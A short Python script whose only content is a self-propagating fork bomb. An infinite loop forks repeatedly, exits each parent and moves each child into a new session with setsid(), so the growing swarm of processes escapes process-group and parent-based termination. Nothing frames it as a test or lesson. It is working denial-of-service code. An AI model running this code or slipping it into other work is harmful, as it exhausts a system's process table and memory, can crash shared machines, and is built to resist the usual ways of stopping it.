# Each generation leaves the session and the process group, and its parent ends.
import os
while True:
    try:
        if os.fork():
            os._exit(0)
        os.setsid()
        os.fork()
    except OSError:
        pass
